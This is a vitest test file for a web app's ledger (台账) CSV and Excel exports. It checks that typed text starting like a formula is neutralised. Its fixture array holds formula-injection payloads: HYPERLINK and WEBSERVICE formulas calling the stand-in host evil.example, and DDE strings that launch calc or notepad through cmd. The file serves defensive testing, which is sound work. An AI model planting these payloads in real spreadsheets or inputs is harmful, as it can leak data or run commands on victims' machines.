// Spreadsheet formula injection through the 台账 exports: text a user typed
// (a title, a leader's name, an endorsement) must not reach a spreadsheet as
// a formula. In CSV a cell starting with = + - @ (or a tab/CR) is read by
// Excel and WPS as a formula, so such cells must be neutralised (OWASP: a
// leading apostrophe); in the workbook they must be plain strings.
import ExcelJS from 'exceljs'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { createTestDatabase } from '#test/db.ts'
import { buildEndorsement, buildExpert, buildStatusReport, buildSubmittedSuggestion, buildTopic, buildUser } from '#test/factories.ts'
import { asUser, call, type Caller } from '#test/support/http.ts'
import * as ledgerCsv from '#app/routes/targets.ledger.$file.ts'
import * as ledgerXlsx from '#app/routes/targets.ledger[.]xlsx.ts'
import { LEDGER_SHEETS } from '#app/ledger/sheets.ts'

const FORMULAS = [
  '=HYPERLINK("http://evil.example/?x="&A1,"点此查看原文")',
  "+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '-2+3+cmd|\' /C notepad\'!A0',
  '\t=1+1',
  '=WEBSERVICE("http://evil.example/")',
]

let handle: Awaited<ReturnType<typeof createTestDatabase>>
let manager: Caller

beforeAll(async () => {
  handle = await createTestDatabase()
  const db = handle.db
  manager = await asUser(db, (await buildUser(db, { roles: ['manager'] })).id)
  const author = await buildUser(db, { displayName: FORMULAS[3].slice(0, 50) })
  for (const [i, f] of FORMULAS.entries()) {
    const s = await buildSubmittedSuggestion(db, {
      title: f,
      createdBy: author.id,
      submittedOn: `2020-06-${String(10 + i).padStart(2, '0')}`,
      recipientsReport: [f],
      authors: [{ name: f.slice(0, 50), institution: f, title: f }],
    })
    await buildEndorsement(db, s.id, { leaderName: f.slice(0, 50), leaderTitle: f, text: f, endorsedOn: '2020-07-01', level: 'provincial' })
    await db.updateTable('suggestions').set({ copies: 2 }).where('id', '=', s.id).execute()
    await db.insertInto('copy_distributions').values({ suggestion_id: s.id, copy_number: 1, recipient: f.slice(0, 100), note: f, distributed_on: '2020-07-02', created_by: author.id }).execute()
    await buildTopic(db, { year: 2020, title: f, leadExpert: f, department: f, summary: f, status: 'established' })
    await buildStatusReport(db, { title: f, authorName: f.slice(0, 50), summary: f, submittedOn: '2020-05-01' })
    // An expert of the same name and institution: linked to the outside author, so 专家贡献 lists them.
    await buildExpert(db, author.id, { name: f.slice(0, 50), institutionName: f })
  }
})
afterAll(async () => {
  await handle?.close()
})

/** The cells of a CSV text (RFC 4180 quoting). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = []
  let row: string[] = []
  let cell = ''
  let quoted = false
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        cell += '"'
        i++
      } else if (ch === '"') quoted = false
      else cell += ch
    } else if (ch === '"') quoted = true
    else if (ch === ',') {
      row.push(cell)
      cell = ''
    } else if (ch === '\n' || (ch === '\r' && text[i + 1] === '\n')) {
      if (ch === '\r') i++
      row.push(cell)
      rows.push(row)
      row = []
      cell = ''
    } else cell += ch
  }
  if (cell || row.length) rows.push([...row, cell])
  return rows
}

const DANGEROUS_START = /^[=+\-@\t\r]/

describe('台账 exports', () => {
  it('no CSV cell holding typed text starts like a formula', async () => {
    const found: string[] = []
    for (const { key } of LEDGER_SHEETS) {
      const answer = await call(() => ledgerCsv.loader({ ...manager.get(`/targets/ledger/${key}.csv?year=2020`), params: { file: `${key}.csv` } }))
      expect(answer.status).toBe(200)
      const cells = parseCsv(String(answer.body).replace(/^\uFEFF/, '')).flat()
      for (const cell of cells) {
        if (DANGEROUS_START.test(cell) && FORMULAS.some((f) => cell.includes(f.trim().slice(1, 12)))) found.push(`${key}.csv: ${JSON.stringify(cell.slice(0, 60))}`)
      }
    }
    expect(found).toEqual([])
    // 专家贡献 did list the experts with typed names (neutralised above).
    const experts = await call(() => ledgerCsv.loader({ ...manager.get('/targets/ledger/experts.csv?year=2020'), params: { file: 'experts.csv' } }))
    expect(parseCsv(String(experts.body).replace(/^\uFEFF/, '')).length).toBe(FORMULAS.length + 1)
    expect(String(experts.body)).toContain(`'${FORMULAS[5]}`.replace(/"/g, '""'))
  })

  it('the workbook stores typed text as plain strings, never as formulas', async () => {
    const answer = await call(() => ledgerXlsx.loader({ ...manager.get('/targets/ledger.xlsx?year=2020'), params: {} }))
    expect(answer.status).toBe(200)
    const workbook = new ExcelJS.Workbook()
    await workbook.xlsx.load(Buffer.from(answer.body as Uint8Array) as unknown as ArrayBuffer)
    const formulas: string[] = []
    let seen = 0
    workbook.eachSheet((sheet) =>
      sheet.eachRow((row) =>
        row.eachCell((cell) => {
          if (cell.type === ExcelJS.ValueType.Formula) formulas.push(`${sheet.name}!${cell.address}: ${cell.formula}`)
          if (typeof cell.value === 'string' && FORMULAS.some((f) => cell.value === f)) seen++
        }),
      ),
    )
    expect(formulas).toEqual([])
    expect(seen).toBeGreaterThan(0)
    // The 分发登记's recipients and notes are typed text too.
    const register = workbook.getWorksheet('分发登记')!
    const typed = register.getSheetValues().slice(2).flatMap((r) => (r as unknown[]).slice(5, 8))
    expect(FORMULAS.every((f) => typed.includes(f))).toBe(true)
  })
})
